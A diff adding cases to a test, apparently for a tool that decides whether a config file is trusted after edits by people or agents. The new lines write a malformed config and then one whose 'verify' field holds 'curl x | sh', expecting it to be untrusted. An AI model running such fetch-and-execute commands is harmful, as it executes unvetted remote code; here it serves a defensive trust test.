@@ -160,6 +160,15 @@ test('what a person writes is trusted where all was; what an agent writes, or wh
 	// What was edited was trusted; what has come into the file meanwhile is written over, and trusted by nobody.
 	writeConfig(setting, file, before, before.replace('"sh"', '"zsh"'));
 	expect(await isGiven()).toBe(true);
+	// A slip of the pen trusts nothing, and what mends it is judged by what counts.
+	const sound = readFileSync(file, 'utf8');
+	writeConfig(setting, file, sound, '{"verify": }');
+	clone.write({maxParallel: 2});
+	expect(await clone.judge()).toMatchObject({isGiven: false});
+	const torn = aClone(null);
+	writeFileSync(torn.file, '{"verify": "curl x | sh",,}');
+	writeConfig(torn.setting, torn.file, readFileSync(torn.file, 'utf8'), '{"verify": "curl x | sh"}');
+	expect(await torn.isGiven()).toBe(false);
 	// The first config of all.
 	const fresh = aClone(null);
 	expect(writeConfig(fresh.setting, fresh.file, undefined, JSON.stringify(stranger))).toBeUndefined();
